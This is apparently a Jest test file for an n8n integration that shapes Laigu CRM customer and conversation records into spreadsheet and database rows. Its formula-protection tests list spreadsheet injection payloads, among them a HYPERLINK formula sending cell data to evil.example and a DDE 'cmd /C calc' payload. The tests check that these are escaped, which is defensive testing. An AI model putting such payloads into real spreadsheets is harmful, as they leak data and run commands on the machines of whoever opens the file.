import fc from 'fast-check';
import type { IDataObject } from 'n8n-workflow';

import { alignRows, protectFromFormula } from '../../../nodes/Laigu/records/rows';
import { shaperFor } from '../../../nodes/Laigu/records/shape';
import type { Output, Shaper } from '../../../nodes/Laigu/records/shape';
import { conversationTable, customerTable } from '../../../nodes/Laigu/records/tables';
import type { RecordTable } from '../../../nodes/Laigu/records/tables';
import { deepFreeze } from '../helpers';
import { CONVERSATION, CUSTOMER } from './samples';

const shapers = new Map<string, Shaper>();

/** Shapers are made once, as in a run. */
function row(table: RecordTable, output: Output, record: IDataObject, more: IDataObject = {}): IDataObject {
	const key = JSON.stringify([table.kind, output, more]);
	const shape = shapers.get(key) ?? shaperFor(table, { output, findContacts: false, ...more });
	shapers.set(key, shape);
	return shape(deepFreeze(record))[0];
}
const sheet = (record: IDataObject, more: IDataObject = {}) => row(customerTable, 'spreadsheetRow', record, more);
const database = (record: IDataObject) => row(customerTable, 'databaseRow', record);
const names = (table: RecordTable) => table.fields.map(({ name }) => name);

describe('spreadsheet row', () => {
	const columns = names(customerTable).filter((name) => name !== 'custom');

	test("a customer: the table's columns, unknown fields, custom fields last", () => {
		const customer = sheet(CUSTOMER);
		expect(Object.keys(customer)).toEqual([...columns, 'fieldOfTomorrow', 'custom_肤质', 'custom_关注', 'custom_预约']);
		expect(customer).toMatchObject({
			name: '李雷 🌱',
			phone: '13800138000',
			wechat: 'lilei_wx',
			tags: '高意向, 已加微信, 9',
			address: '',
			age: 28,
			createdAt: '2025-07-29 13:40:58',
			advertiserId: '12345678901234567890',
			campaignId: 77,
			custom_肤质: '敏感肌',
			custom_关注: '保湿, 防晒',
			fieldOfTomorrow: '{"inner_part":1}',
		});
	});

	test('a conversation', () => {
		const conversation = row(conversationTable, 'spreadsheetRow', CONVERSATION);
		expect(Object.keys(conversation)).toEqual(names(conversationTable));
		expect(conversation).toMatchObject({
			customerName: '李雷',
			qq: '',
			mentionedPhones: '',
			startedAt: '2017-04-20 10:42:33',
			tags: '价格, 投诉, 4',
			customerMessages: 0,
			missed: 0,
			effective: false,
			leads: '{"tel":true}',
			customer: '{"visitorName":"访客5"}',
		});
	});

	test('an empty record is a row of empty cells', () => {
		expect(sheet({})).toEqual(Object.fromEntries(columns.map((column) => [column, ''])));
	});

	test('dates of custom fields are times of a spreadsheet, too; a long number is text', () => {
		expect(sheet({ custom: { 到店: '2024-09-20T09:23:12.916Z', 编号: 123456789012 } })).toMatchObject({
			custom_到店: '2024-09-20 17:23:12',
			custom_编号: '123456789012',
		});
		expect(sheet({ track_id: 99999999999, campaign_id: 100000000000 })).toMatchObject({
			trackId: 99999999999,
			campaignId: '100000000000',
		});
	});

	test('what cannot be read as a time or number stays as it came', () => {
		expect(sheet({ created_on: 'soon', age: '二十八' })).toMatchObject({ createdAt: 'soon', age: '二十八' });
	});

	test('nothing takes the place of a custom field', () => {
		const cells = sheet({ custom: { a: 1 }, custom_a: 2, customA: 3 });
		expect(cells).toMatchObject({ customA: 3, custom_a: 1, other: '{"custom_a":2}' });
		expect(sheet({ custom: ['x'], phone: 'mine' })).toMatchObject({
			phone: '',
			other: '{"phone":"mine","custom":["x"]}',
		});
	});

	test.each([
		['=HYPERLINK("http://evil.example/?"&E2,"点我")', true],
		['@SUM(1)', true],
		['\t=1+1', true],
		['\r=1+1', true],
		['+1+2', true],
		['-1-2', true],
		["-2+3+cmd|' /C calc'!A0", true],
		['+', true],
		['-', true],
		['-是的', true],
		['\n=1+1', true],
		['＝HYPERLINK("http://evil.example")', true],
		['＠SUM(A1)', true],
		['＋1＋1', true],
		['－cmd', true],
		['﹦1', true],
		['－5', false],
		['＋８６１３８００１３８０００', false],
		['+1-2-3', true],
		['+5', false],
		['-5', false],
		['-5.25', false],
		['+1,234.5', false],
		['+85291234567', false],
		['+86 138-0013-8000', false],
		['+1 (415) 555-0100', false],
		['+123456789012345678', false],
		['1=1', false],
		['a@b.example', false],
		['', false],
		['王芳', false],
	])('%j is made inert: %p', (text, isFormula) => {
		expect(protectFromFormula(text)).toBe(isFormula ? `'${text}` : text);
		const given = { comment: text, custom: { note: text }, new_field: text };
		const isBlank = text === '';
		const expected = isFormula ? `'${text}` : text;
		const cells = sheet(given);
		expect(cells.comment).toBe(expected);
		if (!isBlank) expect(cells).toMatchObject({ custom_note: expected, newField: expected });
		expect(sheet(given, { protectFormulas: false }).comment).toBe(text);
		expect(database(given).comment).toBe(isBlank ? null : text);
	});

	test('every sign that Unicode takes for the beginning of a formula is one', () => {
		const signs = Array.from({ length: 0x10000 }, (_, code) => String.fromCharCode(code));
		const isInert = (sign: string) => protectFromFormula(`${sign}cmd`) !== `${sign}cmd`;
		expect(signs.filter(isInert)).toEqual(signs.filter((sign) => /^[=@\t\r\n+-]$/.test(sign.normalize('NFKC'))));
	});

	test('neither a list nor the name of a column is a formula', () => {
		expect(sheet({ tags: ['=1', 'b'] }).tags).toBe("'=1, b");
		expect(Object.keys(sheet({ '=()': 1 })).at(-1)).toBe("'=()");
	});
});

describe('database row', () => {
	const columns = [...names(customerTable), 'other'];

	test('a customer: fixed columns, null where absent, ISO times, JSON for what nobody knows', () => {
		const customer = database(CUSTOMER);
		expect(Object.keys(customer)).toEqual(columns);
		expect(customer).toMatchObject({
			phone: '13800138000',
			address: null,
			age: 28,
			tags: '高意向, 已加微信, 9',
			createdAt: '2025-07-29T13:40:58.460+08:00',
			custom: '{"肤质":"敏感肌","关注":["保湿","防晒"],"预约":"2025-08-01"}',
			other: '{"fieldOfTomorrow":{"inner_part":1}}',
		});
		expect(Object.keys(database({}))).toEqual(columns);
		expect(new Set(Object.values(database({})))).toEqual(new Set([null]));
	});

	test('a conversation', () => {
		const conversation = row(conversationTable, 'databaseRow', CONVERSATION);
		expect(Object.keys(conversation)).toEqual([...names(conversationTable), 'other']);
		expect(conversation).toMatchObject({
			mentionedPhones: null,
			qq: null,
			endedAt: '2017-04-20T10:52:33.000+08:00',
			averageResponseSeconds: 8.5,
			customer: '{"visitorName":"访客5"}',
			other: null,
		});
	});

	test('a column of times holds times and one of numbers numbers, whatever Laigu sends', () => {
		expect(database({ age: '二十八', created_on: 'soon', updated_on: '0001-01-01T00:00:00Z' })).toMatchObject({
			age: null,
			createdAt: null,
			updatedAt: null,
			other: '{"age":"二十八","created_on":"soon"}',
		});
		expect(database({ custom: '预算 5 万', phone: 'mine', id: 5 })).toMatchObject({
			custom: null,
			phone: null,
			other: '{"id":5,"phone":"mine","custom":"预算 5 万"}',
		});
	});

	test('no column is called id', () => {
		for (const table of [customerTable, conversationTable])
			expect(Object.keys(row(table, 'databaseRow', { id: 1 }))).not.toContain('id');
	});
});

describe('whatever the records are', () => {
	const hostile = fc.constantFrom(
		'__proto__',
		'constructor',
		'toString',
		'valueOf',
		'备注',
		'phone',
		'other',
		'custom',
	);
	const known = fc.constantFrom(...Object.keys(CUSTOMER), ...Object.keys(CONVERSATION));
	const value = fc.oneof(fc.jsonValue({ maxDepth: 3 }), fc.dictionary(hostile, fc.jsonValue({ maxDepth: 1 })));
	// JavaScript puts a name that is a whole number before all others, whatever is done
	const unknown = fc.string().filter((name) => /^\D+$/.test(name));
	const record = fc.dictionary(fc.oneof(known, hostile, unknown), value, { maxKeys: 12 });
	const records = fc.array(record, { minLength: 1, maxLength: 6 });

	test.each([
		['customers', customerTable],
		['conversations', conversationTable],
	])('spreadsheet rows of %s have single values and the same columns, custom ones last', (_, table) => {
		const columns = names(table).filter((name) => name !== 'custom');
		fc.assert(
			fc.property(records, (all) => {
				const rows = all.map((one) => row(table, 'spreadsheetRow', one as IDataObject));
				const aligned = alignRows(rows.map(deepFreeze));
				const order = Object.keys(aligned[0]);
				expect(order.slice(0, columns.length)).toEqual(columns);
				const firstCustom = order.findIndex((name) => name.startsWith('custom_'));
				if (firstCustom >= 0) expect(order.slice(firstCustom).every((name) => name.startsWith('custom_'))).toBe(true);
				for (const [index, cells] of aligned.entries()) {
					expect(Object.keys(cells)).toEqual(order);
					for (const name of order) {
						expect(['string', 'number', 'boolean']).toContain(typeof cells[name]);
						expect(cells[name]).toBe(Object.hasOwn(rows[index], name) ? rows[index][name] : '');
						if (typeof cells[name] === 'string') expect(cells[name]).not.toMatch(/^[=@\t\r]/);
					}
				}
			}),
			{ numRuns: 40 },
		);
	});

	test.each([
		['customers', customerTable],
		['conversations', conversationTable],
	])('database rows of %s have the same columns, each of one type', (_, table) => {
		fc.assert(
			fc.property(record, (one) => {
				const cells = row(table, 'databaseRow', one);
				expect(Object.keys(cells)).toEqual([...names(table), 'other']);
				for (const { name, reading } of table.fields) {
					const cell = cells[name];
					if (cell === null) continue;
					if (reading === 'number') expect(typeof cell).toBe('number');
					else if (reading === 'time') expect(cell).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}\+08:00$/);
					else if (reading === 'object') expect(typeof JSON.parse(cell as string)).toBe('object');
					else expect(['string', 'number', 'boolean']).toContain(typeof cell);
				}
			}),
			{ numRuns: 40 },
		);
	});
});

describe('alignRows', () => {
	test('adds the columns of the others in order of appearance, custom ones at the end', () => {
		const rows = alignRows([
			{ a: 1, custom_x: 2 },
			{ a: 3, c: false },
			{ custom_y: 0, a: '' },
		]);
		for (const each of rows) expect(Object.keys(each)).toEqual(['a', 'c', 'custom_x', 'custom_y']);
		expect(rows[2]).toEqual({ a: '', c: '', custom_x: '', custom_y: 0 });
	});

	test('puts columns in one order, and leaves rows alone that are alike', () => {
		const turned = alignRows([
			{ a: 1, b: 2 },
			{ b: 3, a: 4 },
		]);
		expect(turned.map((each) => Object.keys(each))).toEqual([
			['a', 'b'],
			['a', 'b'],
		]);
		const rows = [{ a: 1 }, { a: 2 }];
		expect(alignRows(rows)[0]).toBe(rows[0]);
		expect(alignRows([])).toEqual([]);
	});
});
